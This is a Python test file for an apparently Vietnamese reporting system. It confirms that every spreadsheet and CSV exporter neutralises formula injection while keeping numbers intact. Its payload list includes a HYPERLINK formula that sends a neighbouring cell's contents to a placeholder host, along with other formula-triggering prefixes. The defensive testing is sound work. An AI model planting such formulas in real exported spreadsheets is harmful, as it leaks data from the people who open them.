"""No spreadsheet leaves the system with a live formula (OWASP CSV injection).

Every XLSX/CSV writer is found by grepping the source; each must be listed in
`lotrinh.core.exports.WRITERS` and exercised here with hostile text, so a new writer
cannot appear unnoticed. Numbers stay numbers, negative ones included."""

import csv
import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from lotrinh.core import exports

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://x?"&B3,"Bấm")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
WRITER_CALL = re.compile(r"\bWorkbook\(|\bcsv\.writer\(")


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


def neutralised(text: str) -> bool:
    return text.startswith("'") and text[1:].startswith(exports.DANGEROUS_PREFIXES)


def xlsx_cells(blob: bytes) -> list:
    book = load_workbook(io.BytesIO(blob))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe_xlsx(blob: bytes) -> list:
    cells = xlsx_cells(blob)
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(exports.DANGEROUS_PREFIXES), cell.value
    texts = [c.value for c in cells if isinstance(c.value, str)]
    # The hostile text did reach the file, neutralised (the test cannot pass vacuously).
    assert any(neutralised(t) for t in texts), texts[:20]
    return cells


def assert_safe_csv(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for field in row:
            assert NUMBER.match(field) or not field.startswith(exports.DANGEROUS_PREFIXES), field
    assert any(neutralised(f) for row in rows for f in row)
    return rows


def test_every_spreadsheet_writer_in_the_source_is_registered_and_tested():
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "lotrinh").rglob("*.py")
        if "migrations" not in path.parts and WRITER_CALL.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(exports.WRITERS)
    assert set(EXERCISED) == set(exports.WRITERS)


def test_safe_cell_follows_the_owasp_rule_and_leaves_numbers_alone():
    assert [exports.safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert exports.safe_cell("Bộ Y tế") == "Bộ Y tế" and exports.safe_cell("") == ""
    assert exports.safe_cell(-1) == -1 and exports.safe_cell(-2.5) == -2.5
    day = datetime.date(2024, 1, 1)
    assert exports.safe_cell(day) is day and exports.safe_cell(None) is None
    assert exports.unsafe_cell(exports.safe_cell("-1+2")) == "-1+2"
    assert exports.unsafe_cell("'quoted") == "'quoted"


def documents_render(report, programme, indicator):
    from lotrinh.documents import assemble, render

    agency = assemble.agency_report(report, datetime.date(2024, 12, 31))
    assert_safe_xlsx(render.render_xlsx("agency", agency))
    data = assemble.consolidated(programme, 2024, datetime.date(2024, 12, 31))
    data["compliance"].append(
        {"agency": payload(0), "plan": payload(1), "report": payload(2), "submitted": payload(3)}
    )
    data["groups"][0]["tasks"][0]["evidence"] = payload(4)
    data["targets"].append(
        {
            "indicator": payload(0),
            "milestone": payload(1),
            "latest": payload(2),
            "status": payload(3),
            "note": payload(5),
        }
    )
    assert_safe_xlsx(render.render_xlsx("consolidated", data))


def indicators_services(report, programme, indicator):
    from lotrinh.indicators import services

    for text in (services.export_csv(indicator), services.export_sdmx_csv(indicator)):
        rows = assert_safe_csv(text)
        assert "-1.5" in [field for row in rows for field in row]  # a number, unquoted
    cells = assert_safe_xlsx(services.export_xlsx())
    values = [c for c in cells if c.value == -1.5]
    assert values and all(c.data_type == "n" for c in values)  # negative number kept


def indicators_sdmx(report, programme, indicator):
    from lotrinh.indicators import sdmx

    assert_safe_csv(sdmx.export_csv([indicator]))  # a CR in a citation stays in its field


def programmes_exporters(report, programme, indicator):
    from lotrinh.programmes.exporters import matrix_xlsx
    from lotrinh.programmes.models import TaskAssignment

    task = programme.tasks.order_by("position").first()
    task.text = payload(0)
    task.save()
    TaskAssignment.objects.filter(task=task).update(name_as_written=payload(3))
    assert_safe_xlsx(matrix_xlsx(programme))


def reporting_compliance(report, programme, indicator):
    from lotrinh.reporting import compliance
    from lotrinh.reporting.plans import create_recorded_plan

    create_recorded_plan(
        report.agency, programme, number=payload(0)[:60], date=datetime.date(2020, 5, 1)
    )
    report.agency.name_vi = payload(1)
    report.agency.save()
    pic = compliance.picture(programme, today=datetime.date(2024, 12, 31), years=[2024])
    assert_safe_xlsx(compliance.picture_xlsx(pic))


def reporting_xlsx_form(report, programme, indicator):
    from lotrinh.reporting import xlsx_form

    report.agency.name_vi = payload(0)
    report.agency.save()
    assert_safe_xlsx(xlsx_form.build_form(report))


def portal_datasets(report, programme, indicator):
    from lotrinh.portal import datasets, public
    from lotrinh.portal.services import publish_report
    from lotrinh.reporting import services
    from tests.conftest import make_user

    most = make_user("export_most", "bo-khoa-hoc-va-cong-nghe", "most_monitor")
    approver = make_user("export_approver", report.agency.code, "approver")
    report = services.submit_report(services.approve_report(report, approver), approver)
    publish_report(most, services.accept_report(report, most))
    picture = public.picture(programme)
    for name in ("ket-qua", "chi-so"):
        dataset = datasets.DATASETS[name]
        rows = dataset.rows(picture)
        assert_safe_csv(datasets.as_csv(dataset, rows))
        assert_safe_xlsx(datasets.as_xlsx(dataset, rows, datasets.metadata(dataset)))


def core_activity(report, programme, indicator):
    from lotrinh.core import activity
    from lotrinh.core.audit import record_event
    from tests.conftest import make_user

    most = make_user("export_most_log", "bo-khoa-hoc-va-cong-nghe", "most_monitor")
    actor = make_user("export_admin", report.agency.code, "agency_admin")
    actor.full_name = payload(2)
    actor.save()
    invited = make_user("export_invited", report.agency.code, "reporter")
    invited.full_name = payload(0)
    invited.save()
    record_event(actor, "account.invited", invited, after={"role": "reporter"})
    assert_safe_xlsx(activity.export_xlsx(most, activity.ActivityFilter()))


def agencies_units_file(report, programme, indicator):
    from lotrinh.agencies import units_file
    from lotrinh.agencies.models import Unit, UnitKind

    agency = report.agency
    for i in range(len(PAYLOADS)):
        Unit.objects.create(
            agency=agency,
            code=f"export-{i}",
            name_vi=payload(i),
            name_en=payload(i + 1),
            kind=UnitKind.OTHER,
        )
    assert_safe_csv(units_file.as_csv(agency).lstrip(exports.UTF8_BOM))
    assert_safe_xlsx(units_file.as_xlsx(agency))


EXERCISED = {
    "lotrinh/agencies/units_file.py": agencies_units_file,
    "lotrinh/core/activity.py": core_activity,
    "lotrinh/portal/datasets.py": portal_datasets,
    "lotrinh/documents/render.py": documents_render,
    "lotrinh/indicators/sdmx.py": indicators_sdmx,
    "lotrinh/indicators/services.py": indicators_services,
    "lotrinh/programmes/exporters.py": programmes_exporters,
    "lotrinh/reporting/compliance.py": reporting_compliance,
    "lotrinh/reporting/xlsx_form.py": reporting_xlsx_form,
}


@pytest.mark.parametrize("module", sorted(EXERCISED))
def test_no_exporter_writes_a_formula_from_hostile_text(module, report, programme, indicator):
    EXERCISED[module](report, programme, indicator)


def test_the_report_form_reads_back_neutralised_text_as_it_was_typed(report):
    from lotrinh.reporting import xlsx_form

    entry = report.entries.select_related("task").order_by("task__position").first()
    entry.result = "- Đã ban hành kế hoạch; =3 đơn vị"
    entry.save()
    parsed = xlsx_form.parse_form(report, xlsx_form.build_form(report))
    assert parsed[entry.task.ref]["result"] == "- Đã ban hành kế hoạch; =3 đơn vị"
